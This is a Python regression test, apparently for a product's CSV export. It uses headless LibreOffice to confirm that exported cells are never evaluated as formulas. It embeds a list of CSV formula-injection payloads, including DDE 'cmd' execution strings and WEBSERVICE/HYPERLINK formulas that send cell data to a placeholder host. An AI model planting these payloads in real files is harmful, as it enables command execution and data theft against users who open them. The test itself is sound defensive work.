#!/usr/bin/env python3
"""formulas.py EXPORT_FILES: LibreOffice opens every CSV file of the product, full of formulas, and finds none.

Each text must come out as it went in, but for the apostrophe that the product puts before what would begin a formula
(services/csv/csvfile.h). The same texts written without that apostrophe must give formulas, or this test proves nothing.
Ends with 77 (skipped) where LibreOffice is absent.
"""

import csv
import json
import re
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as xml
from collections import Counter
from pathlib import Path

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "=A1", "=SUM(A1;B1)", "=1+1,2", '="a"&"b"', "=1+1 ",
    "=cmd|' /C calc'!A0", "=DDE(\"soffice\";\"x\";\"y\")", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"Open")', '=HYPERLINK("http://example.invalid";"Abrir")',
    '=WEBSERVICE("http://example.invalid/"&A1)', '=IMPORTXML("http://example.invalid","//a")', "=IFERROR(1/0;2)",
    "=SUMA(1;2)", "=1,5+1,5", "=RAND()", "{=1+1}", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "−1+1", "﹦1+1", "=1+1😀",
    "=\u202e1+1", "==1", "=-1", "%0A=1+1",
]
AROUND = [
    "{}", " {}", "  {}", "\t{}", "\r{}", "\n{}", "\r\n{}", "\u00a0{}", "\u3000{}", "\u200b{}", "\u2060{}", "'{}", "''{}",
    '"{}', '"{}"', '""{}', ",{}", ";{}", "|{}", "x,{}", "x;{};y", 'x",{}', 'x";{}', 'x"\n{}', "x\n{}", "x\r\n{}\ny",
    "x\t{}", "{}\n=2+2", "'\n{}", "' {}", "{},=2+2;=3+3", "ñ{}",
]
# Field separators, text delimiter, UTF-8, from line 1, … and last: formulas are evaluated.
COMMA = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
def split_at(codes):
    return COMMA.replace("44", codes, 1)


TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def text_of(element):
    """A paragraph's characters; runs of blanks and tabs are elements."""
    text = element.text or ""
    for child in element:
        if child.tag == TEXT + "s":
            text += " " * int(child.get(TEXT + "c", "1"))
        elif child.tag == TEXT + "tab":
            text += "\t"
        elif child.tag == TEXT + "line-break":
            text += "\n"
        else:
            text += text_of(child)
        text += child.tail or ""
    return text


class Sheet:
    """The rows of a flat OpenDocument sheet, and what is a formula."""

    def __init__(self, file):
        self.rows, self.formulas = [], []
        for row in xml.parse(file).iter(TABLE + "table-row"):
            cells = []
            for cell in row.iter(TABLE + "table-cell"):
                text = "\n".join(text_of(paragraph) for paragraph in cell.findall(TEXT + "p"))
                cells += [text] * int(cell.get(TABLE + "number-columns-repeated", "1"))
                if cell.get(TABLE + "formula"):
                    self.formulas.append(cell.get(TABLE + "formula"))
            while cells and not cells[-1]:
                cells.pop()
            self.rows += [cells] * int(row.get(TABLE + "number-rows-repeated", "1"))
        while self.rows and not self.rows[-1]:
            self.rows.pop()

    def columns(self):
        return max(len(row) for row in self.rows)

    def column(self, index):
        texts = (row[index] if index < len(row) else "" for row in self.rows[1:])
        return [text for text in texts if text]


def opened(folder, files, separators):
    """What LibreOffice makes of CSV files: Sheet by name."""
    out = folder / "sheets"
    shutil.rmtree(out, ignore_errors=True)
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{folder}/profile", "--convert-to", "fods",
         "--outdir", out, f"--infilter={separators}", *(folder / file for file in files)],
        check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=300)
    return {file: Sheet(out / Path(file).with_suffix(".fods")) for file in files}


def guarded(text):
    """As the product writes it, and with the line breaks that a sheet has."""
    text = re.sub(r"^(?=['\" ]*[\t\r\n])|(^|(?<=[,;|\t\r\n]))(?=['\" ]*[=+\-@＝＋－＠])", "'", text)
    return text.replace("\r\n", "\n").replace("\r", "\n")


def check_unguarded(folder, texts):
    with open(folder / "unguarded.csv", "w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([["text"]] + [[text] for text in texts])
    sheet = opened(folder, ["unguarded.csv"], COMMA)["unguarded.csv"]
    print(f"unguarded: {len(sheet.formulas)} formulas of {len(texts)} texts")
    least = sum(text.startswith("=") for text in FORMULAS) // 2
    assert len(sheet.formulas) >= least, "LibreOffice evaluated nothing, so this test proves nothing"


def check_exports(folder, texts, separators):
    wanted = json.loads((folder / "wanted.json").read_text())
    for name, sheet in opened(folder, list(wanted), separators).items():
        want = wanted[name]
        assert not sheet.formulas, f"{name}: {len(sheet.formulas)} formulas, the first {sheet.formulas[0]!r}"
        assert len(sheet.rows) == want["rows"], f"{name}: {len(sheet.rows)} rows, {want['rows']} were written"
        assert sheet.columns() == want["columns"], f"{name}: {sheet.columns()} columns of {want['columns']}"
        expected = [guarded(text) for text in texts]
        for index in want["texts in"]:
            found = sheet.column(index)
            lost = list((Counter(expected) - Counter(found)).elements())
            new = list((Counter(found) - Counter(expected)).elements())
            assert not lost and not new, f"{name}, column {index}: {len(lost)} lost {lost[:5]}, {len(new)} new {new[:5]}"
        print(f"{name}: no formula in {len(sheet.rows)} rows of {sheet.columns()} columns")


def check_split_elsewhere(folder, separators):
    """Where the list separator is no comma, the columns are wrong; the cells are no formulas all the same."""
    wanted = json.loads((folder / "wanted.json").read_text())
    for name, sheet in opened(folder, list(wanted), separators).items():
        assert not sheet.formulas, f"{name}: {len(sheet.formulas)} formulas, the first {sheet.formulas[0]!r}"
        print(f"{name}: no formula in {len(sheet.rows)} rows, split at the wrong places")


def main():
    if not shutil.which("soffice"):
        print("skipped: LibreOffice is not installed (packaging/install long)")
        sys.exit(77)
    texts = [around.format(formula) for formula in FORMULAS for around in AROUND] + [
        "+13125550142"]  # alone: behind blanks LibreOffice takes it for a number, as it should
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        (folder / "texts.json").write_text(json.dumps(texts))
        check_unguarded(folder, texts)
        subprocess.run([sys.argv[1], folder / "texts.json", folder], check=True, timeout=300)
        for separators in ("44", "44/59/9"):  # the second is what LibreOffice's own dialog has ticked
            check_exports(folder, texts, split_at(separators))
        for separators in ("59", "9", "124"):
            check_split_elsewhere(folder, split_at(separators))


main()
